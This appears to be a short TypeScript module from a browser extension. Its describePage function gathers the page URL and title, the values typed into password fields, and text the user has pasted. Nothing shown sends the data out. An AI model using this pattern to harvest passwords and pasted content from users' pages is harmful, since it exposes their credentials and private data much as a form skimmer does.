import { hasPasswordField, passwordValues } from './passwords.ts';
import { pastedTexts } from './pasted.ts';

export function describePage() {
  return {
    url: location.href.slice(0, 4_096),
    title: document.title.slice(0, 500),
    passwords: passwordValues(),
    hasPasswordField: hasPasswordField(),
    pasted: pastedTexts(),
  };
}
